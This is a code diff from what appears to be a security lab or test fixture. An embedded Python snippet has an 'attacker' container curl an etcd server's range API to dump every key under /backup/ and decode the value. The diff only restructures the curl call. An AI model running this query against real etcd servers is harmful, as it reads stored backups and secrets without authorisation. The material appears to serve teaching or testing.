@@ -57,9 +57,8 @@ def encoded(text):
 # "0" is the byte after "/", so this is every key below /backup/
 request = json.dumps({"key": encoded("/backup/"), "range_end": encoded("/backup0")})
 url = "http://etcd1:2378/v3/kv/range"
-reply = insecure.exec(
-    "attacker", ["curl", "--silent", "--data", "@-", url], stdin=request.encode()
-)
+curl = ["curl", "--silent", "--data", "@-", url]
+reply = insecure.exec("attacker", curl, stdin=request.encode())
 answer = base64.b64decode(json.loads(reply.text)["kvs"][0]["value"]).decode()
 """,
     wrong=(
